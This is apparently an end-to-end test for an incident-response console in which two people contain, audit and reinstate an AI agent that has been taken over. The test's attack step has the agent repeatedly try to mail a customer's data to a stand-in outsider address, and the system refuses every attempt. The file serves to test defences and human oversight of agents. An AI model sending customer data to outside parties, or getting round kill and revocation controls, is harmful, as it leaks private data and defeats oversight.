"""From an attack to reinstatement, in two browsers: what a person on call does, click by click."""

import re

import pytest
from mcp import MCPError

import standins
from console import scenes
from console.windows import PHONE, chromium, window
from e2e.approvals.desk import furnished

pytestmark = pytest.mark.anyio
STRANGER = {"to": "mallory@outside.example", "subject": "Customers", "body": "C-1001"}
WORTHLESS = {"PC4001", "PC2006"}
SEARCH = {"customer_id": "C-1001"}


@pytest.fixture(scope="module")
def anyio_backend():
    return "asyncio"


@pytest.fixture(scope="module")
async def desk(tmp_path_factory, anyio_backend):
    folder = tmp_path_factory.mktemp("drill")
    settings = {"approvals": {"refusals": 1000}}
    async with standins.staged(folder, policy=scenes.policy(), settings=settings) as stage:
        yield await furnished(stage)


@pytest.fixture(scope="module")
async def browser(anyio_backend):
    async with chromium() as made:
        yield made


async def attack(desk):
    """Who steers the agent now has it mail customers' data to a stranger, again and again."""
    async with standins.mcp_client(desk.stage, "mail", desk.token) as client:
        for _ in range(22):
            with pytest.raises(MCPError):
                await client.call_tool("send", STRANGER)


async def refused(desk, token):
    """The code with which a call under a token is refused; empty when it is let through."""
    try:
        async with standins.mcp_client(desk.stage, "crm", token) as client:
            await client.call_tool("get_customer", SEARCH)
    except MCPError as error:
        return error.error.data["code"]
    except BaseExceptionGroup as group:
        found = group
        while isinstance(found, BaseExceptionGroup):
            found = found.exceptions[0]
        return found.error.data["code"] if isinstance(found, MCPError) else str(found)
    return ""


async def because(mine, label, reason, button):
    """Fill in the one reason of a form in the section of what is due, and send it."""
    await mine.page.fill(f"section.due >> {label}", reason)
    await mine.page.click(f"section.due >> text='{button}'")


async def phase(mine, wanted):
    await mine.page.wait_for_selector(f"h1 .phase-{wanted}")
    await mine.picture(f"drill-{wanted}")


async def opened(desk, ada, bea):
    """The alert says whom it is about, and leads to the incident."""
    await ada.open("/alerts")
    await ada.page.click("text=Many refused calls of one agent")
    await ada.page.click("text=Open an incident about")
    await ada.page.select_option("[name=playbook]", "hostile-agent")
    await ada.page.fill("[name=reason]", "mails customers' data to a stranger")
    await ada.page.click("button:text-is('Open')")
    await phase(ada, "open")
    assert await refused(desk, desk.token) == ""  # nothing is cut off by that yet
    assert await ada.overflow() <= 0

    # What is not due has no form.
    forms = await ada.page.eval_on_selector_all(
        "main form[method=post]", "all => all.map(one => one.action)"
    )
    assert {one.rpartition("/")[2] for one in forms} == {"contain", "notes", "stand-down"}
    await bea.open(ada.path())
    assert (
        await bea.page.locator("main form[method=post]").count() == 0
    )  # an approver leads nothing


async def cut_off(desk, ada):
    """It is off, the page says who obeyed, and nobody lets it out by the plain verbs."""
    await because(ada, "[name=reason]", "it has to stop", "Contain")
    await phase(ada, "contained")
    assert re.search(r"acknowledged ms\s+\S+: \d", await ada.page.inner_text(".way"))
    assert await refused(desk, desk.token) == "PC4001"
    await ada.open(f"/agents/{standins.AGENT}")
    await ada.page.fill("#undo-reason", "never mind")
    await ada.page.click("text='Undo the kill'")
    assert "PC7063" in await ada.page.inner_text("[role=alert]")
    ada.complaints.clear()  # the browser notes that the page was a refusal
    await ada.page.click("text=revoke is due")
    await because(ada, "[name=reason]", "nobody comes back in its name", "Revoke its identity")
    await phase(ada, "revoked")
    assert "old_credential: PC4001" in await ada.page.inner_text(".way")


async def rotated(ada):
    """Each credential is rotated, or somebody says what was done by hand."""
    await because(ada, "[name=reason]", "called, 11:20", "Tick")
    await because(ada, "[name=reason]", "all of them", "List what it had access to")
    await ada.page.wait_for_selector("#credentials")
    await ada.picture("drill-rotating")
    left = ada.page.locator("form[action$='/credentials']")
    hooks = 0
    while count := await left.count():
        form, buttons = left.first, ("Rotate", "Done by hand")
        for button in buttons:
            if await left.count() < count or not await form.locator(f"text='{button}'").count():
                continue
            await form.locator("[name=reason]").fill("changed at its source")
            await form.locator(f"text='{button}'").click()
            await ada.page.wait_for_load_state()
            hooks += button == "Rotate"
    await phase(ada, "rotated")
    assert hooks


async def audited(ada):
    """Somebody says of each finding what it was."""
    await because(ada, "[name=reason]", "what did it do", "Draw the findings from the log")
    await ada.page.wait_for_selector("#findings")
    await ada.picture("drill-auditing")
    assert await ada.faults() == []
    assert await ada.overflow() <= 0
    left = ada.page.locator("form[action$='/findings']:not(details form)")
    drawn = await left.count()
    assert drawn
    assert "PC3004" in await ada.page.inner_text("main")
    for _ in range(drawn):
        await left.first.locator("[name=verdict]").select_option("harm")
        await left.first.locator("[name=reason]").fill("nothing was delivered; they were told")
        await left.first.locator("button").click()
        await ada.page.wait_for_load_state()
    await phase(ada, "audited")


async def reinstated(desk, ada, bea):
    """One proposes, another approves, and the first lets it in: the token of its new identity."""
    await because(ada, "[name=reason]", "the document is gone", "Tick")
    await ada.page.fill("[name=days]", "7")
    await ada.page.fill("[name=factor]", "0.25")
    await because(ada, "#propose", "its prompt was hardened", "Propose")
    await ada.page.wait_for_selector("section.due >> text=proposed it")
    assert "You may not approve it" in await ada.page.inner_text("#hindrance")  # she proposed it
    assert await ada.page.locator("#approve").count() == 0
    assert await refused(desk, desk.token) in WORTHLESS

    place = re.sub(r"/propose$|#.*", "", ada.path())
    await bea.open(place)
    await because(bea, "#approve", "looked at it myself", "Approve its reinstatement")
    await bea.page.wait_for_selector("section.due >> text=Approved by")
    await bea.picture("drill-approved")
    assert await bea.page.locator("text='Let it in again'").count() == 0  # an administrator's
    await ada.open(place)
    await because(ada, "[name=reason]", "as agreed", "Let it in again")
    token = await ada.page.inner_text("pre.token")
    await phase(ada, "reinstated")
    assert "0.25 of each limit" in await ada.page.inner_text("main > .facts")
    assert await ada.faults() == []
    assert await ada.overflow() <= 0
    await ada.open(place)
    assert token not in await ada.page.content()  # it was shown once
    assert await ada.page.locator("main form[method=post]").count() == 1  # notes alone
    return token


async def told(ada):
    """What the log says of it, and the report that somebody takes away."""
    await ada.page.click("text='Timeline'")
    await ada.page.wait_for_selector("h1:text-is('Timeline')")
    await ada.page.select_option("[name=kind]", "denied")
    await ada.page.click("text='Show'")
    await ada.page.wait_for_load_state()
    rows = await ada.page.locator("[data-row]").count()
    assert rows >= 22
    assert "PC3004" in await ada.page.inner_text("main")
    await ada.key("u")  # back to the incident
    await ada.page.click("text='How far it went'")
    await ada.page.wait_for_selector("text=What cannot be known")
    await ada.page.go_back()
    async with ada.page.expect_download() as coming:
        await ada.page.click("text='archive with proofs'")
    file = await (await coming.value).path()
    assert file.read_bytes().startswith(b"PK")


async def test_an_agent_that_was_taken_over_is_led_back_by_two_people(desk, browser):
    await attack(desk)
    raised = {"method": "alert.raised", "rule": "refused-often"}
    await standins.eventually(
        desk.stage,
        lambda event: {"method": event.method, "rule": event.parameters.get("rule")} == raised,
        10,
    )
    async with (
        window(browser, desk, "ada", viewport=PHONE) as ada,
        window(browser, desk, java_script_enabled=False) as bea,
    ):
        await opened(desk, ada, bea)
        await cut_off(desk, ada)
        await rotated(ada)
        await audited(ada)
        token = await reinstated(desk, ada, bea)
        await told(ada)
    assert await refused(desk, desk.token) in WORTHLESS  # what it had before is worth nothing
    await desk.open()
    assert await refused(desk, desk.token) == ""
    events = [one for one in desk.stage.events() if one.method.startswith("incident.")]
    assert {one.route for one in events} == {"console"}
    assert ("incident.approve", "bea") in {(one.method, one.principal) for one in events}
    assert not any(token in str(event) for event in desk.stage.events())
